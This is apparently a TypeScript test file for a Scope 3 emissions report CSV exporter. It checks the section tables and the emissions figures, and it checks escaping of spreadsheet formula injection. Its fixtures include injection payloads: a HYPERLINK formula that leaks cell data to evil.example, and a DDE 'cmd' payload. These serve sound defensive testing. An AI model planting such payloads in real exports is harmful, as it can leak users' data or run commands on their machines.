/**
 * The Scope 3 report as CSV (docs/documents.md): one tidy table per section, each with its own header and a
 * `section` first column, separated by blank lines; numbers written as numbers (a negative change stays a number);
 * every text cell that a spreadsheet could run as a formula (starting with = + - @, tab or CR) neutralised with a
 * leading `'` (OWASP CSV injection), whatever field it comes from.
 */
import { expect } from "chai";

import { loadReferenceTable } from "../../core/calc/reference-file.ts";
import type { InventoryLine } from "../../core/documents/inventory.ts";
import { csvCell, scope3Csv } from "../../core/documents/scope3-csv.ts";
import { scope3Report } from "../../core/documents/scope3.ts";
import { ACME, retirementFactory } from "../helpers/scope3-retirements.ts";

const reference = loadReferenceTable();
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")';

const retirement = retirementFactory("Acme", { amount: 2, scope3Category: 1, txHash: "0xfeed" });

/** RFC 4180: the rows of one table, each a list of fields (quotes removed, "" unescaped). */
function parse(table: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < table.length; i++) {
    const c = table[i]!;
    if (quoted) {
      if (c === '"' && table[i + 1] === '"') ((field += '"'), i++);
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") (row.push(field), (field = ""));
    else if (c === "\n") (row.push(field), rows.push(row), (row = []), (field = ""));
    else field += c;
  }
  if (field !== "" || row.length) (row.push(field), rows.push(row));
  return rows;
}

/** The CSV's tables by section name: header and rows as records. */
function tables(csv: string): Map<string, Record<string, string>[]> {
  const out = new Map<string, Record<string, string>[]>();
  for (const block of csv.trimEnd().split("\n\n")) {
    const [header, ...rows] = parse(block + "\n");
    expect(header![0]).to.equal("section");
    const name = rows[0]?.[0] ?? "(empty)";
    for (const r of rows) {
      expect(r, `${name}: one field per column`).to.have.length(header!.length);
      expect(r[0]).to.equal(name);
    }
    out.set(
      name,
      rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))),
    );
  }
  return out;
}

const inventory: InventoryLine[] = [
  { year: 2025, category: "laptop", devices: 10, pcfKgPerDevice: "500", scope3Category: 1 },
  { year: 2026, category: "laptop", devices: 10, pcfKgPerDevice: "280", scope3Category: 1, source: "line 3" },
  {
    year: 2026,
    category: "monitor",
    devices: 3,
    manufacturer: "+cmd|' /C calc'!A0",
    model: "-2+3",
    scope3Category: 1,
    source: "line 4",
  },
  { year: 2026, category: "server", devices: 2, pcfKgPerDevice: "1300", scope3Category: 2, source: "line 5" },
];

function report() {
  return scope3Report({
    account: ACME,
    accountName: "@SUM(1+1)",
    reportingYear: 2026,
    inventory,
    reference,
    retirements: [
      retirement(1, { beneficiaryName: HYPERLINK }),
      retirement(2, { beneficiaryName: "\tTabbed", category: "server", scope3Category: 1 }),
      retirement(3, { beneficiaryName: "\rReturned; =1+1", category: "server", scope3Category: 2, amount: 1 }),
    ],
    readAt: {
      chainId: 1337,
      registry: "0x5FbDB2315678afecb367f032d93F642f64180aa3",
      block: 120,
      indexedToBlock: null,
      generatedAt: "2026-12-03T00:00:00.000Z",
    },
  });
}

describe("Scope 3 report CSV", function () {
  it("is one tidy table per section, each with its own header, in a documented order", function () {
    const csv = scope3Csv(report());
    const t = tables(csv);
    expect([...t.keys()]).to.deep.equal([
      "report",
      "emissions",
      "inventory_rows",
      "applied_retirements",
      "unapplied_retirements",
      "claim_quality",
      "year_on_year",
      "notes",
      "disclosures",
    ]);
    const headers = csv
      .trimEnd()
      .split("\n\n")
      .map((b) => b.split("\n")[0]);
    expect(headers[1]).to.equal(
      "section,year,row_type,scope3_category,category,devices,inventory_emissions_tco2e,reduction_tco2e,adjusted_emissions_tco2e,inventory_intensity_kgco2e_per_device,adjusted_intensity_kgco2e_per_device,certificates_applied,claims_scope3_category,floored_at_zero",
    );
    const field = (k: string) => t.get("report")!.find((r) => r.field === k)!.value;
    expect(field("account")).to.equal(ACME);
    expect(field("chain_id")).to.equal("1337");
    expect(field("indexed_to_block")).to.equal("");
    expect(field("statement")).to.match(/^I-TECs are not offsets\./);
    expect(
      t
        .get("emissions")!
        .filter((r) => r.year === "2026")
        .map((r) => [r.row_type, r.scope3_category, r.category, r.adjusted_emissions_tco2e]),
    ).to.deep.equal([
      ["category", "1", "laptop", "2.731566"],
      ["category", "1", "monitor", "0.194100"],
      ["category", "2", "server", "2.565783"],
      ["scope3_subtotal", "1", "all", "2.925666"],
      ["scope3_subtotal", "2", "all", "2.565783"],
      ["total", "", "all", "5.491449"],
    ]);
    const applied = t.get("applied_retirements")!;
    expect(applied.map((r) => [r.retirement_id, r.reduction_tco2e, r.claim_status, r.quality_met])).to.deep.equal([
      ["1", "0.068434", "verified", "yes"],
      ["3", "0.034217", "verified", "yes"],
    ]);
    expect(
      t.get("unapplied_retirements")!.map((r) => [r.year, r.retirement_id, r.reason, r.failed_criterion]),
    ).to.deep.equal([
      ["2025", "1", "PERIOD_OUTSIDE_YEAR", ""],
      ["2025", "2", "PERIOD_OUTSIDE_YEAR", ""],
      ["2025", "3", "PERIOD_OUTSIDE_YEAR", ""],
      ["2026", "2", "NO_MATCHING_SCOPE3_CATEGORY", "LIKE_FOR_LIKE_SCOPE3"],
    ]);
    // The tidy quality table: one row per retirement and criterion of the year.
    expect(t.get("claim_quality")).to.have.length(3 * 6);
    expect(
      t
        .get("claim_quality")!
        .filter((r) => r.met === "no")
        .map((r) => [r.retirement_id, r.rule]),
    ).to.deep.equal([["2", "CQ6"]]);
    expect(t.get("notes")!.map((r) => r.note)).to.have.length(1);
  });

  it("neutralises formula injection in every text cell and keeps numbers, negative ones included, as numbers", function () {
    const t = tables(scope3Csv(report()));
    const applied = t.get("applied_retirements")!;
    expect(applied[0]!.beneficiary_name).to.equal(`'${HYPERLINK}`);
    expect(t.get("report")!.find((r) => r.field === "organisation_name")!.value).to.equal("'@SUM(1+1)");
    const unapplied = t.get("unapplied_retirements")!.find((r) => r.year === "2026")!;
    expect(unapplied.beneficiary_name).to.equal("'\tTabbed");
    expect(applied[1]!.beneficiary_name).to.equal("'\rReturned; =1+1");
    const monitor = t.get("inventory_rows")!.find((r) => r.category === "monitor")!;
    expect([monitor.manufacturer, monitor.model]).to.deep.equal(["'+cmd|' /C calc'!A0", "'-2+3"]);
    // The intensity fell: the change is a negative number, written as one; its sentence is text, neutralised.
    const yoy = t.get("year_on_year")!.at(-1)!;
    expect(yoy.adjusted_change_pct).to.match(/^-\d+\.\d$/);
    expect(yoy.change).to.equal(`'${yoy.adjusted_change_pct} % (decrease) vs 2025`);
    // No field in the whole file starts a formula, except a number in a number column.
    for (const [name, rows] of t)
      for (const r of rows)
        for (const [k, v] of Object.entries(r)) {
          if (/^[=+\-@\t\r]/.test(v)) expect(v, `${name}.${k}`).to.match(/^-\d+(\.\d+)?$/);
        }
  });

  it("writes a number column's plain decimals bare, and quotes every text that is not a plain safe word", function () {
    expect(csvCell("-11.2", "number")).to.equal("-11.2");
    expect(csvCell("-11.2", "text")).to.equal(`"'-11.2"`);
    expect(csvCell("=1+1", "number")).to.equal(`"'=1+1"`);
    expect(csvCell("laptop", "text")).to.equal("laptop");
    expect(csvCell("2026-12-03T00:00:00.000Z", "text")).to.equal("2026-12-03T00:00:00.000Z");
    expect(csvCell("Dell, Inc.", "text")).to.equal('"Dell, Inc."');
    expect(csvCell('say "hi"', "text")).to.equal('"say ""hi"""');
    expect(csvCell("a;=cmd", "text")).to.equal('"a;=cmd"');
    expect(csvCell(null, "text")).to.equal("");
  });
});
